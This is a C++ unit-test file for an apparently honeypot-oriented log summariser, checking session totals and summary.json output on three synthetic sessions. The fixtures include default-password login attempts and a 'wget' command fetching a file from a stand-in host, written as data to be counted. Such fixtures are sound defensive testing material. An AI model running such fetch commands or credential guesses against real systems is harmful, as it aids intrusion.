// summary.json's session counts (session_totals, summary_json) on small synthetic sessions
// whose numbers can be counted by eye.
#include <gtest/gtest.h>

#include "cb/output/outputs.hpp"
#include "synthetic_sessions.hpp"

using cbtest::Spec;

namespace {

// Three sessions on two sensors from two addresses: 5 login attempts (2 good), 3 commands,
// one download, one upload, one TTY recording; two are closed (every Spec closes), one is
// telnet.
std::vector<Spec> three_sessions() {
    Spec a;
    a.session = "aaaaaaaaaaaa";
    a.logins = {{"root", "123", false}, {"root", "toor", true}};
    a.commands = {"uname -a", "wget http://198.51.100.1/x"};
    a.downloads = {{"http://198.51.100.1/x", std::string(64, 'a')}};
    a.tty_bytes = 100;
    Spec b;
    b.session = "bbbbbbbbbbbb";
    b.sensor = "s2";
    b.src_ip = "10.0.0.2";
    b.protocol = "telnet";
    b.start_s = 60;
    b.logins = {{"admin", "admin", false}, {"admin", "1234", false}, {"admin", "admin1", true}};
    b.commands = {"id"};
    b.uploads = {{"up.bin", std::string(64, 'b')}};
    Spec c;
    c.session = "cccccccccccc";
    c.start_s = 120;
    c.duration_s = 2;
    return {a, b, c};
}

}  // namespace

TEST(SessionTotals, CountsSmallSyntheticRun) {
    const cbtest::Corpus c = cbtest::build(three_sessions());
    ASSERT_EQ(c.sessions.size(), 3u);
    const cb::SessionTotals t = cb::session_totals(c.sessions);
    EXPECT_EQ(t.sessions, 3u);
    EXPECT_EQ(t.closed, 3u);
    EXPECT_EQ(t.sensors, 2u);
    EXPECT_EQ(t.src_ips, 2u);
    EXPECT_EQ(t.login_attempts, 5u);
    EXPECT_EQ(t.login_successes, 2u);
    EXPECT_EQ(t.commands, 3u);
    EXPECT_EQ(t.downloads, 1u);
    EXPECT_EQ(t.downloads_failed, 0u);
    EXPECT_EQ(t.uploads, 1u);
    EXPECT_EQ(t.ttylogs, 1u);
    EXPECT_EQ(t.protocols.at("ssh"), 2u);
    EXPECT_EQ(t.protocols.at("telnet"), 1u);
    EXPECT_EQ(cb::format_timestamp(t.first), "2024-01-01T00:00:00.000000Z");
    EXPECT_EQ(cb::format_timestamp(t.last), "2024-01-01T00:02:02.000000Z");  // c: 120 s + 2 s
    std::uint64_t by_kind = 0;
    for (const auto& [k, n] : t.end_kinds()) by_kind += n;
    EXPECT_EQ(by_kind, 3u);
}

TEST(SessionTotals, EmptyRun) {
    const cb::SessionTotals t = cb::session_totals({});
    EXPECT_EQ(t.sessions, 0u);
    EXPECT_EQ(t.sensors, 0u);
    EXPECT_TRUE(t.end_kinds().empty());
    EXPECT_TRUE(t.protocols.empty());
}

TEST(SessionTotals, OrderOfSessionsDoesNotMatter) {
    cbtest::Corpus c = cbtest::build(three_sessions());
    const cb::SessionTotals a = cb::session_totals(c.sessions);
    std::reverse(c.sessions.begin(), c.sessions.end());
    const cb::SessionTotals b = cb::session_totals(c.sessions);
    EXPECT_EQ(a.first, b.first);
    EXPECT_EQ(a.last, b.last);
    EXPECT_EQ(a.protocols, b.protocols);
    EXPECT_EQ(a.end_kinds(), b.end_kinds());
}

TEST(SummaryJson, ShowsTheTotals) {
    cb::RunData run;
    cbtest::Corpus c = cbtest::build(three_sessions());
    run.sessions = std::move(c.sessions);
    run.totals = cb::session_totals(run.sessions);
    const std::string json = cb::summary_json(run);
    for (const char* want : {R"("sessions":3,)", R"("sessions_closed":3,)", R"("sensors":2,)", R"("src_ips":2,)",
                             R"("logins":{"attempts":5,"success":2})", R"("commands":3,)", R"("downloads":1,)",
                             R"("uploads":1,)", R"("first_event":"2024-01-01T00:00:00.000000Z")"})
        EXPECT_NE(json.find(want), std::string::npos) << want << " not in " << json;
    EXPECT_EQ(json.front(), '{');
    EXPECT_EQ(json.find("\"limits\""), std::string::npos);  // no limit was hit
}

TEST(SummaryJson, EmptyRunHasNullTimes) {
    cb::RunData run;
    const std::string json = cb::summary_json(run);
    EXPECT_NE(json.find(R"("sessions":0,)"), std::string::npos) << json;
    EXPECT_NE(json.find(R"("first_event":null)"), std::string::npos) << json;
    EXPECT_NE(json.find(R"("last_event":null)"), std::string::npos) << json;
}
